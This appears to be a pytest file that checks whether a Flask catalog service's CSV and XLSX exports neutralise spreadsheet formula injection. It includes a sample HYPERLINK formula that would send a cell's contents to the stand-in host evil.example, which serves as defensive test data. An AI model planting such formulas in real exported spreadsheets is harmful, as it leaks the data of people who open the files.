"""Every CSV (and XLSX) the service writes quotes text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from catalog.security.cells import neutralise
from catalog.security.cells import restore
from catalog.services.recap import recap_csv
from tests.catalog.payloads import product
from tests.conftest import Tokens

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_formula_text_is_quoted_and_restored(text: str) -> None:
    quoted = neutralise(text)
    assert quoted == "'" + text
    assert restore(quoted) == text


@pytest.mark.parametrize("value", ["-3", "+7.5", "12", "мука", "", "a=b", 5, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_the_recap_csv_quotes_formulas() -> None:
    text = recap_csv({"segments": [{"number": 1, "sku": "KZ-1", "name": FORMULA, "duration_seconds": 5}]})
    assert text.startswith("\ufeff")  # for Excel; read as it does
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[0]["number"] == "1"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_product_export_quotes_formulas_and_imports_back(
    app: Flask, client: FlaskClient, tokens: Tokens, tmp_path: Path, suffix: str
) -> None:
    content = {"zh": {"name": FORMULA, "description": "@cmd", "highlights": []}}
    created = client.post("/api/v1/products", json=product(content=content), headers=tokens.headers("editor"))
    assert created.status_code == 201, created.json
    sheet = tmp_path / f"products.{suffix}"
    runner = app.test_cli_runner()
    assert runner.invoke(args=["export", "products", str(sheet)]).exit_code == 0
    if suffix == "csv":
        row = next(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8"))))
        assert row["name_zh"] == "'" + FORMULA and row["description_zh"] == "'@cmd"
    else:
        book = load_workbook(sheet)
        cells = {c.value: c for c in book.active[2]}  # type: ignore[index]
        quoted = cells["'" + FORMULA]
        assert quoted.data_type == "s"
    result = runner.invoke(args=["import", "products", str(sheet)])
    assert result.exit_code == 0, result.output
    assert "1 unchanged" in result.output
